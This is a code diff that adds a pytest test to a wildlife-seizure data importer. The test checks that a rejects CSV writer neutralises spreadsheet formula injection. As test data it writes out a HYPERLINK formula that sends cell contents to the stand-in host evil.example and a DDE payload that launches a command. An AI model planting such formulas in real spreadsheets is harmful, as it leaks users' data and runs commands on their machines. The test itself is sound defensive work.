@@ -11,7 +11,8 @@ import pytest
 from openpyxl import Workbook
 
 from wildtrace.errors import InputError
-from wildtrace.ops.importer import FIELD_ALIASES, match_columns, parse_mapping, read_seizures
+from wildtrace.ops.importer import FIELD_ALIASES, match_columns, parse_mapping, read_seizures, write_rejects
+from wildtrace.ops.model import RejectedRow
 
 TODAY = date(2026, 1, 1)
 HEADER = ["date", "country", "commodity", "quantity", "unit", "value_usd"]
@@ -301,3 +302,18 @@ def test_fingerprint_ignores_how_a_line_was_written(tmp_path: Path) -> None:
         .rows[0]
         .seizure.fingerprint()
     )
+
+
+def test_rejects_csv_cannot_carry_spreadsheet_formulas(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rejects = [
+        RejectedRow(
+            "s.csv", 2, "unknown origin", {"@cmd": hostile, "qty": "-5", "note": "+cmd|' /C calc'!A0"}
+        ),
+    ]
+    out = tmp_path / "rejects.csv"
+    write_rejects(out, rejects, ["@cmd", "qty", "note"])
+    with out.open(encoding="utf-8", newline="") as handle:
+        header, row = list(csv.reader(handle))
+    assert header == ["file", "row", "reason", "'@cmd", "qty", "note"]
+    assert row == ["s.csv", "2", "unknown origin", "'" + hostile, "-5", "'+cmd|' /C calc'!A0"]
